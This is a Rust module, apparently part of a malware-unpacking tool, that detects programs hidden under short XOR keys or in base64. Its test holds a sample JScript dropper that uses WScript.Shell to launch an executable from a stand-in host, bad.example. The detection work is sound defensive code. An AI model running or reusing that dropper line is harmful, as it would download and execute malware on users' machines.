//! Programs and archives in which something is hidden: another program under an XOR key, or in base64. Files that stand
//! in them as they are belong to file-processor.

use crate::blobs;
use crate::budget::Budget;
use crate::decode::base64::{self, STANDARD};
use crate::decode::cipher;
use crate::guess;
use crate::limits::{MAX_LAYER, MAX_SEARCHED};
use crate::peel::{Found, Technique};
use crate::score::{self, Kind};

const STUB: &[u8] = b"!This program cannot be run in DOS mode.";
/// Where the stub's text is in a program.
const STUB_AT: usize = 0x4d;
/// Programs under a key that are taken out.
const MAX_PROGRAMS: usize = 8;
/// Bits per byte of a text under a short key, and of hardly anything that is packed.
const MAX_ENTROPY: f64 = 6.2;
/// Characters of base64 in a binary: what is shorter is a name or a key.
const LEAST_BASE64: usize = 256;

/// `inner`: what could not be read was decoded on purpose, so that a key is worth a guess. A sample of no format is
/// worth one where some of its bytes are as frequent as letters are.
pub fn find(data: &[u8], inner: bool, budget: &mut Budget) -> Vec<Found> {
    let data = data.get(..data.len().min(MAX_SEARCHED)).unwrap_or_default();
    if !budget.spend(data.len() / 64) {
        return Vec::new();
    }
    let mut found = programs(data);
    found.extend(encoded(data));
    if found.is_empty()
        && (inner || module_kit::entropy(data) < MAX_ENTROPY)
        && score::verdict(data)
            .is_none_or(|verdict| verdict.kind == Kind::Text && verdict.confidence < blobs::LEAST_CONFIDENCE)
        && data.len() < 64 << 10
        && budget.spend(data.len() * 4)
    {
        found.extend(guess::xor(data).map(|guess| {
            let mut one = Found::part(Technique::Xor, guess.confidence, guess.plain).at(0, data.len());
            one.known_key = Some(guess.key);
            one
        }));
    }
    found
}

/// Programs under a key of one to four bytes, told by what a key cannot change: how two bytes differ that the same byte
/// of the key changed.
fn programs(data: &[u8]) -> Vec<Found> {
    let mut found: Vec<Found> = Vec::new();
    for length in [1, 2, 4] {
        let difference: Vec<u8> = STUB.iter().zip(STUB.iter().skip(length)).map(|(one, two)| one ^ two).collect();
        let Some(&rarest) = difference.first() else { continue };
        for at in places(data, length, rarest, &difference) {
            if found.len() >= MAX_PROGRAMS {
                return found;
            }
            found.extend(program(data, at, length).filter(|one| found.iter().all(|known| known.start != one.start)));
        }
    }
    found
}

fn places(data: &[u8], length: usize, first: u8, difference: &[u8]) -> Vec<usize> {
    let differs = |at: usize| data[at] ^ data[at + length];
    let last = data.len().saturating_sub(difference.len() + length);
    (0..last)
        .filter(|&at| {
            differs(at) == first && difference.iter().enumerate().all(|(index, &byte)| differs(at + index) == byte)
        })
        .take(MAX_PROGRAMS)
        .collect()
}

fn program(data: &[u8], stub: usize, length: usize) -> Option<Found> {
    let start = stub.checked_sub(STUB_AT)?;
    let key: Vec<u8> = (0..length).map(|index| data[stub + index] ^ STUB[index]).collect();
    if key.iter().all(|&byte| byte == 0) {
        return None;
    }
    // The key's first byte belongs to the program's.
    let key: Vec<u8> = (0..length).map(|index| key[(index + length * STUB_AT - STUB_AT) % length]).collect();
    let rest = data.get(start..data.len().min(start + MAX_LAYER))?;
    let plain = cipher::xor(rest, &key);
    let header = score::program_header(&plain)?;
    let size = program_size(&plain, header).unwrap_or(plain.len()).min(plain.len());
    let mut one = Found::part(Technique::Xor, 97, plain.get(..size)?.to_vec()).at(start, start + size);
    one.known_key = Some(key);
    Some(one)
}

/// Where the last section of a Windows program ends.
fn program_size(data: &[u8], header: usize) -> Option<usize> {
    let word = |at: usize| Some(usize::from(u16::from_le_bytes(*data.get(at..)?.first_chunk()?)));
    let long = |at: usize| usize::try_from(u32::from_le_bytes(*data.get(at..)?.first_chunk()?)).ok();
    let table = header + 24 + word(header + 20)?;
    let ends = (0..word(header + 6)?.min(96)).map_while(|index| {
        let row = table + index * 40;
        long(row + 20)?.checked_add(long(row + 16)?)
    });
    ends.max().filter(|&end| end > table)
}

/// Long runs of base64 that are a file or a script.
fn encoded(data: &[u8]) -> Vec<Found> {
    let is_letter = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/');
    let mut found = Vec::new();
    let mut at = 0;
    // Every so many bytes one is looked at: a run that is long enough is not missed.
    while at < data.len() && found.len() < MAX_PROGRAMS {
        if !is_letter(&data[at]) {
            at += LEAST_BASE64 / 2;
            continue;
        }
        let start = data[..at].iter().rposition(|byte| !is_letter(byte)).map_or(0, |before| before + 1);
        let end = at + data[at..].iter().take_while(|byte| is_letter(byte)).count();
        if end - start >= LEAST_BASE64 && end - start <= MAX_LAYER {
            found.extend(decoded(&data[start..end]).map(|one| one.at(start, end)));
        }
        at = end + LEAST_BASE64 / 2;
    }
    found
}

fn decoded(run: &[u8]) -> Option<Found> {
    let run = run.get(..run.len() - usize::from(run.len() % 4 == 1))?;
    let bytes = base64::decode(run, STANDARD)?;
    let verdict = score::verdict(&bytes)?;
    let is_wanted = matches!(verdict.kind, Kind::File(_)) || verdict.confidence >= blobs::LEAST_CONFIDENCE;
    is_wanted.then(|| Found::part(Technique::Base64, verdict.confidence, bytes))
}

#[cfg(test)]
mod tests {
    use crate::decode::cipher;
    use crate::peel::Peeler;

    #[test]
    fn a_script_under_a_key_is_read_whatever_the_key() {
        let script =
            b"var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c start http://bad.example/a.exe', 0);".repeat(3);
        for key in [&b"\x01"[..], b"\x20", b"\x42", b"\x5a", b"\x7f", b"\x80", b"\xff", b"Zq", b"K3y!"] {
            let sample = cipher::xor(&script, key);
            let peeler = Peeler::peel(&sample, "");
            let first = peeler.layers.first().unwrap_or_else(|| panic!("{key:?}"));
            assert_eq!((first.found.known_key.as_deref(), &first.found.content), (Some(key), &script), "{key:?}");
        }
    }
}
